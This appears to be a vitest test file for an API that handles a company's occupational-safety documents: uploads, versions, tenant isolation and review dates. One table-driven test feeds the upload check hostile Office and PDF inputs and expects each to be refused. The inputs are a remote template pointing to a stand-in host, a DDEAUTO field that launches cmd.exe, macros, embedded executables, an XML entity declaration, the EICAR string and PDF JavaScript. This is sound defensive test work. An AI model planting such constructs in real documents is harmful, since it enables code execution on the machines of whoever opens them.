import { Writable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { plainPdf } from '#demo/canary/pdf.ts';
import { ZipWriter } from '#platform/server/spreadsheets/writing/zip.ts';
import { type Person, startTestApp, type TestApp } from '#testing/app.ts';
import type { Company } from '#testing/builders.ts';
import { multipartOf, xlsxOf } from '#testing/files.ts';
import type { SstDocument } from '../model.ts';

const PATH = '/api/middleware/monday-models';
let t: TestApp;
let company: Company;
let hr: Person;
let doctor: Person;
beforeAll(async () => {
  t = await startTestApp();
  company = await t.make.company();
  hr = await t.as((await t.make.user('user', company)).username);
  doctor = await t.as((await t.make.user('doctor', company)).username);
});
afterAll(() => t.close());

async function zipOf(parts: Record<string, string>): Promise<Buffer> {
  const chunks: Buffer[] = [];
  const sink = new Writable({
    write(chunk: Buffer, _, done) {
      chunks.push(chunk);
      done();
    },
  });
  const zip = new ZipWriter(sink);
  for (const [name, content] of Object.entries(parts)) await zip.entry(name, content);
  await zip.finish();
  return Buffer.concat(chunks);
}
const word = (more: Record<string, string> = {}, types = '<Types/>') =>
  zipOf({ '[Content_Types].xml': types, 'word/document.xml': '<w:document xmlns:w="w"/>', ...more });
const asked = (name: string) => new URLSearchParams({ name, category: 'TRABAJO' });
const upload = (by: Person, name: string, file: string, content: Buffer, more = '') =>
  by.inject({ method: 'POST', url: `${PATH}/documents?${asked(name)}${more}`, ...multipartOf(file, content) });
const again = (by: Person, id: string, content: Buffer) =>
  by.inject({
    method: 'POST',
    url: `${PATH}/documents/${id}/versions?note=Cambios`,
    ...multipartOf('x.docx', content),
  });
const own = async (by: Person, query = ''): Promise<SstDocument[]> =>
  (await by.get(`${PATH}?customer_id=${company.id}&origin=EMPRESA${query}`)).json().items;
const asset = (by: Person, id: string, more = '') =>
  by.get(`${PATH}/asset?customer_id=${company.id}&asset_id=${id}${more}`);
const kept = async (): Promise<number> => {
  const { rows } = await t.services.system.run(({ client }) =>
    client.query("select count(*)::int as n from files where kind = 'sst-document' and customer_id = $1", [company.id]),
  );
  return rows[0].n;
};

describe('a document of the company', () => {
  test('is listed beside the models, keeps its versions, is retired and given back', async () => {
    const [first, second] = [await word(), await word({ 'word/styles.xml': '<s/>' })];
    const made = await upload(hr, 'Procedimiento de izaje crítico', 'izaje.docx', first);
    expect(made.statusCode, made.body).toBe(201);
    const { id } = made.json();
    expect((await own(hr, '&q=critico%20izaje'))[0]).toMatchObject({
      id,
      edition: '1',
      format: 'docx',
      category: 'TRABAJO',
    });
    expect((await upload(hr, 'PROCEDIMIENTO de izaje critico', 'b.docx', first)).json()).toMatchObject({
      code: 'name_taken',
    });
    expect((await again(hr, id, second)).json()).toEqual({ id, number: 2 });
    expect((await asset(hr, id)).rawPayload.equals(second)).toBe(true);
    expect((await asset(hr, id, '&number=1')).rawPayload.equals(first)).toBe(true);
    expect((await asset(hr, id, '&number=3')).statusCode).toBe(404);
    const versions = (await hr.get(`${PATH}/documents/${id}/versions`)).json().items;
    expect(versions.map(({ number, note }: { number: number; note: string }) => [number, note])).toEqual([
      [2, 'Cambios'],
      [1, ''],
    ]);
    expect((await hr.send('DELETE', `${PATH}/documents/${id}`)).statusCode).toBe(204);
    expect(await own(hr, '&q=izaje')).toEqual([]);
    expect((await asset(hr, id)).statusCode).toBe(404);
    expect((await hr.send('PUT', `${PATH}/documents/${id}/restore`)).statusCode).toBe(200);
    expect((await own(hr, '&q=izaje'))[0]?.edition).toBe('2');
  });

  test('may be an Excel or a PDF, whatever its name says', async () => {
    const sheet = await xlsxOf(['A'], [['1']]);
    expect((await upload(hr, 'Hoja', 'hoja.docx', sheet)).statusCode).toBe(201);
    expect((await upload(hr, 'Papel', 'papel.txt', plainPdf('Política'))).statusCode).toBe(201);
    expect((await own(hr, '&format=xlsx&q=hoja'))[0]?.format).toBe('xlsx');
    expect((await asset(hr, (await own(hr, '&q=papel'))[0]!.id)).headers['content-type']).toBe('application/pdf');
  });

  test('is nobody’s of another company', async () => {
    const { id } = (await upload(hr, 'Solo nuestro', 'a.docx', await word())).json();
    const other = await t.make.company();
    const stranger = await t.as((await t.make.user('owner', other)).username);
    expect((await stranger.get(`${PATH}/asset?customer_id=${other.id}&asset_id=${id}`)).statusCode).toBe(404);
    expect((await stranger.get(`${PATH}/documents/${id}/versions`)).statusCode).toBe(404);
    expect((await again(stranger, id, await word())).statusCode).toBe(404);
    expect((await stranger.send('DELETE', `${PATH}/documents/${id}`)).statusCode).toBe(404);
  });

  test('of a doctor is for the company only once they say that it holds nothing of anybody’s health', async () => {
    const file = await word();
    expect((await upload(doctor, 'Del médico', 'a.docx', file)).json()).toMatchObject({ code: 'not_cleared' });
    expect((await upload(doctor, 'Del médico', 'a.docx', file, '&cleared=true')).statusCode).toBe(201);
    expect(await own(hr, '&q=del%20medico')).toHaveLength(1);
  });
});

const REMOTE =
  '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://mal.pe/t.dotm" TargetMode="External"/></Relationships>';
const LINK =
  '<Relationships><Relationship Id="r1" Type="http://x/relationships/hyperlink" Target="https://gob.pe" TargetMode="External"/></Relationships>';
const EICAR = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';

test.each([
  ['nothing', Buffer.alloc(0), 'vacío'],
  ['text that is called Word', Buffer.from('hola'), 'no es un Word'],
  ['a picture', Buffer.from('89504e470d0a1a0a0000', 'hex'), 'imagen PNG'],
  ['any zip', zipOf({ 'a.txt': 'x' }), 'ZIP que no es de Word'],
  [
    'a Word of before 2007',
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
    'contraseña o es de una versión antigua',
  ],
  ['macros', word({ 'word/vbaProject.bin': 'x' }), 'macros'],
  [
    'macros by its type',
    word({}, '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'),
    'macros',
  ],
  ['an embedded object', word({ 'word/embeddings/oleObject1.bin': 'x' }), 'objetos incrustados'],
  ['a program', word({ 'word/media/setup.exe': 'MZ' }), 'objetos incrustados'],
  ['a remote template', word({ 'word/_rels/settings.xml.rels': REMOTE }), 'de fuera'],
  [
    'a field that starts programs',
    word({ 'word/header1.xml': '<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>' }),
    'de fuera',
  ],
  ['a document type', word({ 'word/styles.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a/>' }), 'dañado'],
  ['half a file', word().then((whole) => whole.subarray(0, whole.length - 40)), 'dañado'],
  ['a virus of tests', Buffer.from(EICAR), 'virus'],
  ['a virus of tests within', word({ 'word/media/a.bin': EICAR }), 'virus'],
  ['a PDF that runs', Buffer.from('%PDF-1.7\n1 0 obj<</JavaScript 2 0 R>>endobj\nstartxref\n0\n%%EOF'), 'JavaScript'],
])('%s is refused with a sentence, and nothing of it stays', async (what, content, sentence) => {
  const before = await kept();
  const answer = await upload(hr, `Rechazado: ${what}`, 'a.docx', await content);
  expect(answer.json()).toMatchObject({ status: 400, code: 'file_refused', title: expect.stringContaining(sentence) });
  expect(await own(hr, '&q=rechazado')).toEqual([]);
  expect(await kept()).toBe(before);
});

test('more than 15 MB and no file at all are refused; a link that is clicked is taken', async () => {
  expect((await upload(hr, 'Grande', 'a.docx', Buffer.alloc(15_728_641))).statusCode).toBe(413);
  expect((await hr.inject({ method: 'POST', url: `${PATH}/documents?${asked('Nada')}` })).json()).toMatchObject({
    code: 'no_file',
  });
  expect(
    (await upload(hr, 'Con vínculo', 'a.docx', await word({ 'word/_rels/document.xml.rels': LINK }))).statusCode,
  ).toBe(201);
});

describe('who keeps a document', () => {
  const keep = (by: Person, id: string, body: object) => by.send('PUT', `${PATH}/keeping/${id}`, body);
  test('is said of models and of the company’s own; a day that passed is seen', async () => {
    const body = { responsible: 'Rosa Quispe', reviewOn: '2020-01-31', version: 0 };
    expect((await keep(hr, 'politica-sst', body)).json()).toEqual({ version: 1 });
    expect((await keep(hr, 'politica-sst', body)).statusCode).toBe(409);
    expect((await keep(hr, 'no-hay', body)).statusCode).toBe(404);
    const late = (await hr.get(`${PATH}?customer_id=${company.id}&overdue=true`)).json().items;
    expect(late).toMatchObject([{ id: 'politica-sst', responsible: 'Rosa Quispe', overdue: true, version: 1 }]);
    const { id } = (await upload(hr, 'Con responsable', 'a.docx', await word())).json();
    const [{ version }] = (await own(hr, '&q=responsable')) as [SstDocument];
    expect((await keep(hr, id, { ...body, reviewOn: '2090-01-31', version })).statusCode).toBe(200);
    expect((await own(hr, '&q=responsable'))[0]).toMatchObject({ reviewOn: '2090-01-31', overdue: false });
  });
});
